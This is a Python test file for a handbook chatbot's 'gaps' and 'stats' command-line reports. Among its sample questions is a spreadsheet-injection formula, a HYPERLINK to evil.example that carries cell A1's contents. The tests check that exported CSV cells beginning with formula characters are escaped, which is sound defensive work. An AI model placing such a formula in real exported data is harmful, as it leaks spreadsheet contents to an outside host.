"""`coach gaps` and `coach stats` from outside, over what people asked of a small handbook."""

import asyncio
import csv
import io
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from bot.domain import Outcome, Passage, Person, Place
from bot.feedback import Asked, Gap, key_of
from bot.insight_command import write_csv
from bot.store.engine import Database
from bot.store.journal import Journal

Coach = Callable[..., subprocess.CompletedProcess[str]]
FORMULA = '=HYPERLINK("https://evil.example?"&A1,"click me") about sourdough bread'
ASKED: list[tuple[str, Outcome]] = [
    ("how do I bake sourdough bread", "not_covered"),
    ("recipe for sourdough bread", "not_covered"),
    (FORMULA, "not_covered"),
    ("which certifications are worth getting", "answer"),
]


@pytest.fixture
def coach(tmp_path: Path, small: Path, small_handbook: Path) -> Coach:
    data = Path(shutil.copytree(small, tmp_path / "data", symlinks=True))
    asyncio.run(_ask(data))
    settings = {"KNOWLEDGE_DIR": str(small_handbook), "DATA_DIR": str(data)}

    def run(*arguments: str) -> subprocess.CompletedProcess[str]:
        command = [sys.executable, "-m", "bot", *arguments]
        return subprocess.run(command, cwd=tmp_path, env=os.environ | settings, capture_output=True, encoding="utf-8")

    return run


async def _ask(data: Path) -> None:
    database = Database(f"sqlite:///{data / 'coach.sqlite3'}")
    await database.migrate()
    for number, (question, outcome) in enumerate(ASKED):
        at = datetime.now(UTC) - timedelta(minutes=number)
        topic = "Certifications" if outcome == "answer" else None
        asked = Asked(key_of(question), Person("T1", "U0ANNA"), "C1", question, outcome, "", (), topic, 0.1, at)
        await Journal(database).note(asked)
    await database.close()


@pytest.mark.slow
def test_gaps_are_listed_for_people_for_programs_and_for_spreadsheets(coach: Coach, tmp_path: Path) -> None:
    said = coach("gaps")
    assert (said.returncode, said.stderr) == (0, "")
    assert "What the coach doesn’t know: " in said.stdout
    assert "sourdough" in said.stdout
    assert "U0ANNA" not in said.stdout

    told = coach("gaps", "--json", "--csv", "gaps.csv")
    gaps = json.loads(told.stdout)["gaps"]
    assert sum(gap["declined"] for gap in gaps) == 3
    assert all(len(gap["nearest"]) == 5 for gap in gaps)
    rows = list(csv.DictReader((tmp_path / "gaps.csv").read_text(encoding="utf-8").splitlines()))
    assert [row["question"].lstrip("'") for row in rows] == [gap["question"] for gap in gaps]


@pytest.mark.slow
def test_usage_is_told_to_people_and_to_programs(coach: Coach) -> None:
    said = coach("stats", "--days", "7")
    assert (said.returncode, said.stderr) == (0, "")
    assert all(words in said.stdout for words in ("The last 7 days", "4 by 1 people", "3 (75%)", "Certifications"))

    told = json.loads(coach("stats", "--json").stdout)
    assert told["outcomes"] == {"answer": 1, "not_covered": 3, "clarify": 0, "small_talk": 0}
    assert len(told["days"]) == 30
    assert told["seconds"] == {"p50": 0.1, "p95": 0.1}


@pytest.mark.parametrize("days", ["0", "x"])
def test_days_that_make_no_sense_are_wrong_usage(coach: Coach, days: str) -> None:
    said = coach("stats", "--days", days)
    assert (said.returncode, said.stdout) == (2, "")


@pytest.mark.slow
def test_a_table_that_cannot_be_written_is_named(coach: Coach) -> None:
    said = coach("gaps", "--csv", "no/such/folder.csv")
    assert said.returncode != 0
    assert "no/such/folder.csv" in said.stderr
    assert "Traceback" not in said.stderr


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t=", "\r=", " =", "\n+"])
def test_no_cell_of_a_table_is_a_formula(sign: str) -> None:
    place = Place((f"{sign}cmd", "Skills"), None)
    passage = Passage("p", "s.md", place.section, None, "text", 0, "section", (place,))
    out = io.StringIO()
    write_csv(out, [Gap("k", f"{sign}1+1 = what?", (f"{sign}2", "three"), 1, 2, 3, (passage,))])

    [_, [question, *counts, others, nearest]] = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert (question, counts) == (f"'{sign}1+1 = what?", ["1", "2", "3"])
    assert others == f"'{sign}2; three"
    assert nearest == f"'{sign}cmd › Skills"
